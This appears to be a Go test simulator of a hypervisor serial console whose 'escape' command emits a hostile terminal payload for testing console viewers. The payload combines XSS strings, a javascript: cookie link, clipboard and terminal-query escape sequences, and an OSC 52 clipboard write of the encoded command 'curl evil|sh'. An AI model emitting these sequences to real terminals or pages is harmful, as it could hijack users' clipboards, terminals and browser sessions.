package simhv

import (
	"bufio"
	"io"
	"strconv"
	"strings"
)

// The serial line has a shell that a test can talk to: `help` lists what it
// knows. Each stream has a line of its own.

const prompt = "$ "

// maxFlood bounds the output of `flood`, in KiB.
const maxFlood = 64 << 10

func (s *Server) serveSerial(c *console, out io.Writer, in *bufio.Reader) {
	_, view, ok := s.see(c.vm)
	if !ok {
		return
	}
	if _, err := io.WriteString(out, "\r\n"+view.hostname+" serial console\r\n"+prompt); err != nil {
		return
	}
	var line []byte
	var last byte
	for {
		b, err := in.ReadByte()
		if err != nil {
			return
		}
		echo := ""
		switch {
		case b == '\n' && last == '\r': // the end of the line that was taken already
		case b == '\r' || b == '\n':
			if !s.serialLine(c, out, string(line)) {
				return
			}
			line = line[:0]
		case b == '\b' || b == 0x7f:
			if len(line) > 0 {
				line, echo = line[:len(line)-1], "\b \b"
			}
		case b == 3: // Ctrl-C
			line, echo = line[:0], "^C\r\n"+prompt
		case b >= ' ' && len(line) < maxLine:
			line, echo = append(line, b), string([]byte{b})
		}
		last = b
		if _, err := io.WriteString(out, echo); err != nil {
			return
		}
	}
}

// serialLine carries a line out, and reports whether the stream goes on.
func (s *Server) serialLine(c *console, out io.Writer, line string) bool {
	_, view, ok := s.see(c.vm)
	if !ok {
		return false
	}
	if _, err := io.WriteString(out, "\r\n"); err != nil {
		return false
	}
	var err error
	switch name, arg, _ := strings.Cut(strings.TrimSpace(line), " "); name {
	case "escape":
		_, err = io.WriteString(out, hostile())
	case "flood":
		err = flood(out, arg)
	default:
		_, err = io.WriteString(out, strings.ReplaceAll(s.command(c.vm, view, line), "\n", "\r\n"))
	}
	if err == nil {
		_, err = io.WriteString(out, prompt)
	}
	return err == nil
}

// command is what the shell answers, on the serial line and on the screen; each
// line of it ends with a newline.
func (s *Server) command(seq uint64, view guestView, line string) string {
	name, arg, _ := strings.Cut(strings.TrimSpace(line), " ")
	switch name {
	case "":
		return ""
	case "uptime":
		return view.uptime() + "\n"
	case "hostname":
		return view.hostname + "\n"
	case "boot":
		return "boot " + strconv.Itoa(view.boot) + "\n"
	case "echo":
		return arg + "\n"
	case "read":
		return view.data + "\n"
	case "write":
		if len(arg) > maxData {
			return "write: at most " + strconv.Itoa(maxData) + " bytes\n"
		}
		s.inGuest(seq, func(v *vmRecord) { v.RootData = arg })
		return ""
	case "reboot":
		s.restart(seq)
		return ""
	case "help":
		return "uptime, hostname, boot, echo TEXT, write TEXT, read, reboot, escape, flood KIB\n"
	}
	return name + ": not found\n"
}

// flood writes so many KiB of lines, for those who read slowly.
func flood(out io.Writer, kib string) error {
	n, err := strconv.Atoi(strings.TrimSpace(kib))
	if err != nil || n < 1 || n > maxFlood {
		_, err := io.WriteString(out, "flood: 1 to "+strconv.Itoa(maxFlood)+" KiB\r\n")
		return err
	}
	const width = 64
	block := strings.Repeat(strings.Repeat("x", width-2)+"\r\n", 1024/width)
	for range n {
		if _, err := io.WriteString(out, block); err != nil {
			return err
		}
	}
	return nil
}

// hostile is what a malicious guest writes to the terminal of whoever looks: it
// wants to answer for them, to reach their clipboard and their page. A page
// that is safe shows nothing but the two words.
func hostile() string {
	const esc, bel, st = "\x1b", "\x07", "\x1b\\"
	return strings.Join([]string{
		"begin",
		esc + "]0;<img src=x onerror=alert(1)>" + bel,                                   // the title
		esc + "]52;c;Y3VybCBldmlsfHNo" + bel,                                            // the clipboard
		esc + "]52;c;?" + bel,                                                           // the clipboard, read
		esc + "]8;;javascript:alert(document.cookie)" + st + "link" + esc + "]8;;" + st, // a link
		esc + "]4;0;?" + bel + esc + "]10;?" + bel,                                      // colours, asked for
		esc + "[c" + esc + "[>c" + esc + "[5n" + esc + "[6n" + esc + "[21t",             // identity, position, title: asked for
		esc + "P$q\"p" + st + esc + "P+q544e" + st,                                      // settings, asked for
		esc + "[?1000h" + esc + "[?1003h" + esc + "[?2004h",                             // mouse reports, bracketed paste
		esc + "[?1049h" + esc + "[?1049l",                                               // the other screen, and back
		esc + "[8;1;1t" + esc + "[99999;99999H" + esc + "[1000000000b",                  // a size, a place, a repeat without end
		"<script>alert(1)</script>",
		esc + "c", // all of it reset
		"end\r\n",
	}, "")
}
